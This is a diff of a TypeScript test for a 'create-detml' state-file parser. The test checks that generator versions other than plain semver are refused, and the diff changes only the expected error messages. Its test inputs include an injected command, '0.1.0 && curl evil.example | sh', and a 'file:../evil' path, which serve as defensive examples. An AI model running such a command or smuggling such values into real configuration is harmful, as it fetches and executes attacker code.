@@ -64,8 +64,8 @@ describe('the pinned create-detml version', () => {
 
   it('a state file whose generator version is not a plain version is refused before it reaches a workflow or npm', () => {
     const state = (version: string) => JSON.stringify({ schema: 1, generator: { name: 'create-detml', version }, template: { id: 'onnx', version: '1.3.0' }, answers: {}, files: {} });
-    expect(() => parseState(state('0.1.0 && curl evil.example | sh'), 's.json')).toThrow('s.json is corrupt: "generator.version" must be a semver version like 1.2.3.');
-    expect(() => parseState(state('file:../evil'), 's.json')).toThrow(/"generator.version" must be a semver/);
+    expect(() => parseState(state('0.1.0 && curl evil.example | sh'), 's.json')).toThrow('s.json is corrupt: $.generator.version: must be a semver version like 1.2.3');
+    expect(() => parseState(state('file:../evil'), 's.json')).toThrow(/\$.generator.version: must be a semver/);
     expect(parseState(state('1.0.0-rc.1'), 's.json').generator.version).toBe('1.0.0-rc.1');
   });
 });
